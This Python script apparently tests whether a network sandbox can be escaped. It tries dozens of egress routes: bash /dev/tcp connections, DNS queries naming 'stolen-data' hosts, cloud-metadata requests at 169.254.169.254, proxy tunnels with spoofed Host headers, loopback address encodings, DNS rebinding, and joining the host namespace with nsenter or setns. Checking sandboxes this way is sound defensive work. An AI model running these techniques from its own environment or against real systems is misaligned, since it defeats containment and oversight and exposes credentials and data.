"""Tries every way it knows to reach something outside: `network_ways.py JOB`.

The job is a JSON object with the addresses of the targets. What came of each way is printed as one JSON object: the
mark of a target where one answered, else what the system said. Nothing but the standard library and the usual programs
is used, and no address is tried that the job does not name, but for those of metadata services, which lead nowhere in a
network that is leashed.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

PATIENCE_S = 15
JOB: dict[str, Any] = {}
REQUEST = b"GET / HTTP/1.0\r\n\r\n"


def tcp(host: str, port: int, said: bytes = REQUEST, family: int = socket.AF_INET) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(PATIENCE_S)
        one.connect((host, port))
        one.sendall(said)
        return _all(one)


def udp(host: str, port: int, said: bytes = b"hello", family: int = socket.AF_INET) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(3)
        one.connect((host, port))
        one.send(said)
        return one.recv(4096).decode("latin-1")


def unix(path: str, kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(socket.AF_UNIX, kind) as one:
        one.settimeout(3)
        if kind == socket.SOCK_DGRAM:
            one.bind("\0tandem-own" + os.urandom(4).hex())
        one.connect(path)
        one.send(b"hello")
        return one.recv(4096).decode("latin-1")


def by_proxy(request: str, then: bytes = REQUEST) -> str:
    """A request as the proxy is asked it, and what is said through it once it is open."""
    proxy = urlsplit(os.environ["http_proxy"])
    with socket.create_connection((proxy.hostname, proxy.port), PATIENCE_S) as one:
        one.sendall(request.encode())
        if request.startswith("CONNECT"):
            answer = one.recv(4096)
            if b" 200 " not in answer:
                return answer.decode("latin-1")
            one.sendall(then)
        return _all(one)


def tunnel(target: str, host: str = "") -> str:
    return by_proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n")


def get(url: str) -> str:
    return by_proxy(f"GET {url} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\n\r\n")


def run(*words: str, **environment: str) -> str:
    if shutil.which(words[0]) is None:
        return f"{words[0]} is not installed"
    ended = subprocess.run(
        words,
        capture_output=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
        env={**os.environ, "GIT_TERMINAL_PROMPT": "0", **environment},
        check=False,
    )
    return (ended.stdout + ended.stderr).decode("utf-8", "replace")


def query(name: str) -> bytes:
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"


def raw(*kind: int) -> str:
    with socket.socket(*kind) as one:
        one.settimeout(3)
        one.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (JOB["outside"], 0))
        return f"{JOB['mark']} a raw socket could be opened"


def packet() -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768):
        return f"{JOB['mark']} a packet socket could be opened"


def to_all(address: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.sendto(b"hello", (address, JOB["udp"]))
        return one.recv(4096).decode("latin-1")


def other_namespace() -> str:
    with open("/proc/1/ns/net") as file:
        os.setns(file.fileno(), 0)  # type: ignore[attr-defined]  # only newer interpreters have it
    return tcp("127.0.0.1", JOB["person"])


def two_requests() -> str:
    """The second one, for another host, follows on a connection that was allowed for the first."""
    allowed, other = JOB["allowed"], f"other.test:{JOB['web']}"
    first = f"GET http://{allowed}/quiet HTTP/1.1\r\nHost: {allowed}\r\n\r\n"
    return by_proxy(f"{first}GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\n\r\n").replace(JOB["quiet"], "")


def ways() -> dict[str, Callable[[], str]]:
    j = JOB
    out, web, person, allowed = j["outside"], j["web"], j["person"], j["allowed"]
    proxy_port = urlsplit(os.environ["http_proxy"]).port
    name = allowed.partition(":")[0]
    direct = {key: "" for key in os.environ if key.lower().endswith("_proxy")}
    curl = ("curl", "-sS", "-m", "10")
    ssh = ("ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=5")
    return {
        # sockets
        "tcp": lambda: tcp(out, web),
        "tcp to port 80": lambda: tcp(out, 80),
        "tcp to port 443": lambda: tcp(out, 443),
        "tcp to port 22": lambda: tcp(out, 22),
        "tcp over IPv6": lambda: tcp(j["outside6"], web, family=socket.AF_INET6),
        "tcp to the person's loopback": lambda: tcp("127.0.0.1", person),
        "tcp to localhost": lambda: tcp("localhost", person),
        "tcp to another address of loopback": lambda: tcp("127.9.9.9", person),
        "tcp to loopback over IPv6": lambda: tcp("::1", j["person6"], family=socket.AF_INET6),
        "tcp to a mapped address": lambda: tcp("::ffff:127.0.0.1", person, family=socket.AF_INET6),
        "tcp to no address": lambda: tcp("0.0.0.0", person),
        "tcp to the machine's own address": lambda: tcp(j["machine"], person),
        "udp": lambda: udp(out, j["udp"]),
        "udp to the person's loopback": lambda: udp("127.0.0.1", j["person_udp"]),
        "udp over IPv6": lambda: udp(j["outside6"], j["udp"], family=socket.AF_INET6),
        "udp to everybody": lambda: to_all("255.255.255.255"),
        "udp to a group": lambda: to_all("224.0.0.251"),
        "a raw socket of ICMP": lambda: raw(socket.AF_INET, socket.SOCK_RAW, 1),
        "a raw socket of TCP": lambda: raw(socket.AF_INET, socket.SOCK_RAW, 6),
        "a raw socket of any kind": lambda: raw(socket.AF_INET, socket.SOCK_RAW, 255),
        "a socket for pings": lambda: raw(socket.AF_INET, socket.SOCK_DGRAM, 1),
        "a packet socket": packet,
        # names
        "asking a name server": lambda: udp(out, 53, query("stolen-data.test")),
        "asking a name server over tcp": lambda: tcp(out, 53, query("stolen-data.test")),
        "asking for a name": lambda: str(socket.getaddrinfo("stolen-data.example", 80)),
        "a program that asks for a name": lambda: run("getent", "hosts", "more-stolen-data.example"),
        # metadata
        "metadata": lambda: tcp("169.254.169.254", 80),
        "metadata through the proxy": lambda: get("http://169.254.169.254/latest/meta-data/"),
        "metadata through a tunnel": lambda: tunnel("169.254.169.254:80"),
        "metadata over IPv6": lambda: tunnel("[fd00:ec2::254]:80"),
        "a name that is metadata": lambda: get(f"http://metadata.test:{web}/"),
        # files and names of sockets
        "a socket in the home": lambda: unix(j["socket"]),
        "a socket beside the workspace": lambda: unix(j["socket_outside"]),
        "an abstract socket": lambda: unix("\0" + j["abstract"]),
        "an abstract socket for datagrams": lambda: unix("\0" + j["abstract"] + "-d", socket.SOCK_DGRAM),
        "a desktop's abstract socket": lambda: unix("\0/tmp/.X11-unix/X" + j["abstract"]),
        # the shell
        "bash and tcp": lambda: run("bash", "-c", f"exec 3<>/dev/tcp/{out}/{web}; echo >&3; head -c99 <&3"),
        "bash and udp": lambda: run(
            "timeout", "3", "bash", "-c", f"exec 3<>/dev/udp/{out}/{j['udp']}; echo x >&3; head -c9 <&3"
        ),
        # programs that ask no proxy
        "curl without a proxy": lambda: run(*curl, "--noproxy", "*", f"http://{out}:{web}/"),
        "curl without a proxy, by name": lambda: run(*curl, "--noproxy", "*", "http://third-stolen.example/"),
        "wget without a proxy": lambda: run("wget", "-qO-", "-T5", "-t1", "--no-proxy", f"http://{out}:{web}/"),
        "an interpreter without a proxy": lambda: run(
            sys.executable, "-c", f"import urllib.request as u; print(u.urlopen('http://{out}:{web}/').read())",
            **direct,
        ),
        "node without a proxy": lambda: run(
            "node", "-e", f"require('http').get('http://{out}:{web}/', r => r.pipe(process.stdout))", **direct
        ),
        "openssl": lambda: run("timeout", "5", "openssl", "s_client", "-connect", f"{out}:443"),
        "ssh": lambda: run(*ssh, out, "true"),
        "git over ssh": lambda: run("git", "ls-remote", f"ssh://git@{out}/x.git", GIT_SSH_COMMAND=" ".join(ssh)),
        "git's own protocol": lambda: run("git", "ls-remote", f"git://{out}/x.git"),
        # programs that ask the proxy
        "curl to an address": lambda: run(*curl, f"http://{out}:{web}/"),
        "curl to a port of loopback, by the proxy": lambda: run(*curl, "--noproxy", "", f"http://127.0.0.1:{person}/"),
        "curl by a tunnel": lambda: run(*curl, "-p", f"http://other.test:{web}/"),
        "curl to another host": lambda: run(*curl, f"http://other.test:{web}/"),
        "curl to another port of an allowed host": lambda: run(*curl, f"http://{name}:80/"),
        "a tunnel to another port of an allowed host": lambda: tunnel(f"{name}:22"),
        "a tunnel to the address of an allowed host": lambda: tunnel(f"{out}:{web}"),
        "a tunnel that lies about its host": lambda: tunnel(f"{out}:{web}", host=allowed),
        "a redirect to another host": lambda: run(*curl, "-L", f"http://{allowed}/to?http://other.test:{web}/"),
        "a redirect to loopback": lambda: run(*curl, "-L", "--noproxy", "", f"http://{allowed}/to?http://127.0.0.1:{person}/"),
        "a redirect to metadata": lambda: run(*curl, "-L", f"http://{allowed}/to?http://169.254.169.254/"),
        "git by the proxy": lambda: run("git", "ls-remote", f"http://other.test:{web}/x.git"),
        "pip": lambda: run(
            sys.executable, "-m", "pip", "download", "--retries", "0", "--timeout", "5", "-d", "/tmp/p",
            "-i", f"http://other.test:{web}/simple", "x",
        ),
        "npm": lambda: run("npm", "view", "x", "--registry", f"http://other.test:{web}/", "--fetch-retries", "0"),
        "a second request on the same connection": two_requests,
        "the proxy itself": lambda: tunnel(f"127.0.0.1:{proxy_port}"),
        # names that mean something else
        "a name that is loopback": lambda: get(f"http://loopback.test:{person}/"),
        "a name that changes its meaning": lambda: get(f"http://rebinding.test:{person}/") + get(f"http://rebinding.test:{person}/"),
        "loopback as a number": lambda: tunnel(f"2130706433:{person}"),
        "loopback in hexadecimal": lambda: tunnel(f"0x7f.1:{person}"),
        "loopback in short": lambda: tunnel(f"127.1:{person}"),
        "loopback, mapped": lambda: tunnel(f"[::ffff:127.0.0.1]:{person}"),
        "a name that ends like an allowed one": lambda: tunnel(f"evil-{name}:{web}"),
        "a name below an allowed one": lambda: tunnel(f"x.{name}:{web}"),
        # other namespaces
        "a network of its own": lambda: run(
            "unshare", "-rn", "bash", "-c", f"exec 3<>/dev/tcp/{out}/{web}; head -c99 <&3"
        ),
        "the network of the first process": other_namespace,
        "joining the host": lambda: run("nsenter", "-t", "1", "-n", "curl", "-m5", f"http://127.0.0.1:{person}/"),
        "a route of its own": lambda: run("ip", "route", "add", "default", "via", j["machine"]) + tcp(out, web),
    }  # fmt: skip


def _all(one: socket.socket) -> str:
    found = b""
    while len(found) < 1 << 16 and (data := one.recv(4096)):
        found += data
    return found.decode("latin-1")


def main() -> None:
    JOB.update(json.loads(sys.argv[1]))
    answers = {}
    for way, attempt in ways().items():
        try:
            answers[way] = attempt()[-600:]
        except Exception as error:
            answers[way] = repr(error)
    print(json.dumps(answers))


if __name__ == "__main__":
    main()
